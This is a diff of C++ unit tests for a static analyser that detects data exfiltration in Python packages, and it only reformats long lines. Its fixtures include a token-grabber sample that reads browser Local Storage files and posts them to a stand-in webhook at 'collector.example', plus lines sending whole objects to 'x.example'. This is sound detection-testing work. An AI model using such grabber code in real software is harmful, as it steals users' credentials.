@@ -23,7 +23,8 @@ const RuleSet& Rules() {
   return *rules;
 }
 
-std::vector<Finding> Analyze(std::string_view code, Phase phase = Phase::kImport) {
+std::vector<Finding> Analyze(std::string_view code,
+                             Phase phase = Phase::kImport) {
   PythonSource src;
   src.path = "pkg/__init__.py";
   src.text = code;
@@ -42,7 +43,8 @@ const Finding* Find(const std::vector<Finding>& fs, std::string_view rule) {
 std::string Names(const std::vector<Finding>& fs) {
   std::string s;
   for (const Finding& f : fs)
-    s += f.rule + "(" + std::string(SeverityName(f.severity)) + "): " + f.message + "\n";
+    s += f.rule + "(" + std::string(SeverityName(f.severity)) +
+         "): " + f.message + "\n";
   return s;
 }
 
@@ -54,14 +56,17 @@ const char kGrabberHead[] =
     "        self.tokens = []\n"
     "        self.webhook = 'https://collector.example/hook'\n"
     "    def send(self):\n"
-    "        requests.post(self.webhook, json={'t': self.tokens, 'u': self.user})\n"
+    "        requests.post(self.webhook, json={'t': self.tokens, 'u': "
+    "self.user})\n"
     "    def grab(self):\n"
     "        for p in ['a', 'b']:\n"
-    "            self.tokens.append(open(p + '/Local Storage/leveldb/x.ldb').read())\n"
+    "            self.tokens.append(open(p + '/Local "
+    "Storage/leveldb/x.ldb').read())\n"
     "        self.user = os.getlogin()\n";
 
 TEST(ObjectFlows, AppendIntoSelfListReachesSinkInAnotherMethod) {
-  auto fs = Analyze(std::string(kGrabberHead) + "g = Grabber()\ng.grab()\ng.send()\n");
+  auto fs = Analyze(std::string(kGrabberHead) +
+                    "g = Grabber()\ng.grab()\ng.send()\n");
   const Finding* f = Find(fs, "exfiltration");
   ASSERT_NE(f, nullptr) << Names(fs);
   EXPECT_EQ(f->severity, Severity::kCritical) << f->message;
@@ -84,7 +89,8 @@ TEST(ObjectFlows, HostFactsThroughSelfAttribute) {
       "Beacon().run()\n");
   const Finding* f = Find(fs, "exfiltration");
   ASSERT_NE(f, nullptr) << Names(fs);
-  EXPECT_NE(f->message.find("socket.gethostname"), std::string::npos) << f->message;
+  EXPECT_NE(f->message.find("socket.gethostname"), std::string::npos)
+      << f->message;
   EXPECT_NE(f->message.find("self.host"), std::string::npos) << f->message;
   // run() is called at import, and runs report() through self.
   EXPECT_EQ(f->phase, Phase::kImport) << f->message;
@@ -126,8 +132,8 @@ TEST(ObjectFlows, MethodsNobodyCallsAtLoadWeighLess) {
   EXPECT_EQ(f->phase, Phase::kRuntime);
   EXPECT_LT(f->severity, Severity::kCritical);
   // Under `if __name__ == '__main__':` an imported module does not run it.
-  auto guarded =
-      Analyze(std::string(kGrabberHead) + "if __name__ == '__main__':\n    Grabber().send()\n");
+  auto guarded = Analyze(std::string(kGrabberHead) +
+                         "if __name__ == '__main__':\n    Grabber().send()\n");
   const Finding* g = Find(guarded, "exfiltration");
   ASSERT_NE(g, nullptr) << Names(guarded);
   EXPECT_EQ(g->phase, Phase::kRuntime);
@@ -159,7 +165,8 @@ TEST(ObjectFlows, BenignClientPostingItsOwnFields) {
       "    def add(self, x):\n"
       "        self.items.append({'id': x, 'tag': self.name})\n"
       "    def flush(self):\n"
-      "        requests.post(self.base + '/items', data=json.dumps(self.items))\n"
+      "        requests.post(self.base + '/items', "
+      "data=json.dumps(self.items))\n"
       "c = Client('demo')\nc.add(1)\nc.flush()\n");
   EXPECT_EQ(Find(fs, "exfiltration"), nullptr) << Names(fs);
 }
@@ -214,8 +221,9 @@ TEST(ObjectFlows, InstancesOutsideTheClassAndObjectsSentWhole) {
   EXPECT_NE(f->message.find("self.user"), std::string::npos) << f->message;
   EXPECT_EQ(f->phase, Phase::kImport);
   // The object as a whole: vars(self), g.__dict__.
-  for (const char* send : {"requests.post('https://x.example/', json=vars(self))",
-                           "requests.post('https://x.example/', json=self.__dict__)"}) {
+  for (const char* send :
+       {"requests.post('https://x.example/', json=vars(self))",
+        "requests.post('https://x.example/', json=self.__dict__)"}) {
     auto whole = Analyze(std::string("import os, requests\n"
                                      "class S:\n"
                                      "    def a(self):\n"
@@ -223,7 +231,8 @@ TEST(ObjectFlows, InstancesOutsideTheClassAndObjectsSentWhole) {
                                      "    def b(self):\n"
                                      "        ") +
                          send + "\n");
-    EXPECT_NE(Find(whole, "exfiltration"), nullptr) << send << "\n" << Names(whole);
+    EXPECT_NE(Find(whole, "exfiltration"), nullptr) << send << "\n"
+                                                    << Names(whole);
   }
   // Another object of another class is not that object.
   auto other = Analyze(
